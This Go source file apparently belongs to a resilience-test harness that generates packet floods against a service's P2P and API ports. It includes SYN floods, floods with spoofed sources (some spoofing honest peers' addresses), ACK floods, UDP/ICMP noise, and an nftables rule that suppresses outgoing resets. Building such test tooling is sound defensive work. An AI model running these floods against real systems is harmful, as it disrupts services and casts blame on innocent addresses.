package attackers

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os/exec"
	"strings"
	"sync"
	"time"
)

func packetAttacks() []Attack {
	return []Attack{
		{"syn", "20,000 SYNs in a second from 200 addresses that never answer.", LayerPackets, func(s *scene) error {
			return s.quietly(func() error { return s.segments(20_000, flagSYN, s.own(200)) })
		}},
		{"synfast", "150,000 SYNs in a second from 4,000 addresses that never answer.", LayerPackets, func(s *scene) error {
			return s.quietly(func() error { return s.segments(150_000, flagSYN, s.own(4_000)) })
		}},
		{"synspoof", "100,000 SYNs in a second, each with another source that is not the sender's.", LayerPackets, func(s *scene) error {
			return s.segments(100_000, flagSYN, anyone)
		}},
		{"synspoofvictim", "100,000 SYNs in a second with the addresses of honest peers and users as their sources.", LayerPackets, asVictims},
		{"synspooftwice", "50,000 SYNs in a second with random sources, each sent again after a second as honest ones are.", LayerPackets, twice},
		{"ackflood", "50,000 packets in a second that belong to no connection, with random sources.", LayerPackets, func(s *scene) error {
			return s.segments(50_000, flagACK, anyone)
		}},
		{"udpicmp", "20,000 UDP datagrams and ICMP echo requests in a second from 500 addresses.", LayerPackets, noise},
	}
}

// asVictims pretends to be honest.
func asVictims(s *scene) error {
	if len(s.Victims) == 0 {
		return errors.New("victims: there are none; wanted honest addresses, whose SYNs these pretend to be")
	}
	return s.segments(100_000, flagSYN, among(s.Victims))
}

// rate is the attack's own, or the one that was asked for.
func (s *scene) rate(own int) int {
	if s.Rate > 0 {
		return s.Rate
	}
	return own
}

// sender chooses the source of a packet.
type sender func(r *rand.Rand) [4]byte

// own are some of the attackers' addresses.
func (s *scene) own(n int) sender {
	from := s.scattered(n)
	all := make([]netip.Addr, from.n)
	for i := range all {
		all[i] = from.at(i)
	}
	return among(all)
}

func among(all []netip.Addr) sender {
	list := make([][4]byte, len(all))
	for i, a := range all {
		list[i] = a.As4()
	}
	return func(r *rand.Rand) [4]byte { return list[r.IntN(len(list))] }
}

// anyone is an address of the internet: not private, and none that systems discard unseen.
func anyone(r *rand.Rand) [4]byte {
	for {
		n := r.Uint32()
		a := [4]byte{byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}
		switch addr := netip.AddrFrom4(a); {
		case a[0] == 0, a[0] >= 224, addr.IsPrivate(), addr.IsLoopback(), addr.IsLinkLocalUnicast():
		default:
			return a
		}
	}
}

// segments sends TCP segments to both ports in turn.
func (s *scene) segments(rate int, flags byte, from sender) error {
	r := s.random(0)
	return s.blast(s.rate(rate), func(b []byte) int { return s.segment(b, r, flags, from) })
}

func (s *scene) segment(b []byte, r *rand.Rand, flags byte, from sender) int {
	n := r.Uint64()
	to := s.P2P
	if n&1 == 0 {
		to = s.API
	}
	acknowledges := uint32(0)
	if flags&flagACK != 0 {
		acknowledges = uint32(n >> 16)
	}
	port := uint16(1024 + n>>1%64_000)
	return tcp(b, from(r), to.Addr().As4(), port, to.Port(), uint32(n>>32), acknowledges, flags)
}

// twice sends each packet again a second later: two senders with the same chances, one of which begins later. It finds out how many are let
// in of those who do come twice.
func twice(s *scene) error {
	var all sync.WaitGroup
	var failed [2]error
	for i := range failed {
		r := s.random(0)
		all.Go(func() {
			if s.pause(time.Duration(i) * time.Second) {
				failed[i] = s.blast(s.rate(50_000)/2, func(b []byte) int { return s.segment(b, r, flagSYN, anyone) })
			}
		})
	}
	all.Wait()
	return errors.Join(failed[:]...)
}

// noise is what has nothing to do with the ports that are served.
func noise(s *scene) error {
	r, from := s.random(0), s.own(500)
	return s.blast(s.rate(20_000), func(b []byte) int {
		to, source, n := s.P2P, from(r), r.Uint64()
		if n&1 == 0 {
			to = s.API
		}
		size, id := int(n>>8%1000), uint16(1024+n>>24%64_000)
		switch n >> 1 & 3 {
		case 0:
			return echo(b, source, to.Addr().As4(), id, size)
		case 1:
			return udp(b, source, to.Addr().As4(), id, uint16(n>>48)|1, size)
		}
		return udp(b, source, to.Addr().As4(), id, to.Port(), size)
	})
}

const quietTable = "icon_attackers"

// quietly keeps this network's kernel from answering for the addresses whose packets were made by hand: it would reset what the target
// has just half opened, which an attacker would not. Such a reset has no ACK, as opposed to one that closes a connection.
func (s *scene) quietly(attack func() error) error {
	err := nft("add table ip " + quietTable + "\ndelete table ip " + quietTable + "\ntable ip " + quietTable +
		" {\n chain output {\n  type filter hook output priority 0\n  tcp flags & (rst | ack) == rst drop\n }\n}\n")
	if err != nil {
		return err
	}
	return errors.Join(attack(), nft("delete table ip "+quietTable+"\n"))
}

func nft(rules string) error {
	cmd := exec.Command("nft", "-f", "-")
	cmd.Stdin = strings.NewReader(rules)
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("nft: %w: %s", err, out)
	}
	return nil
}
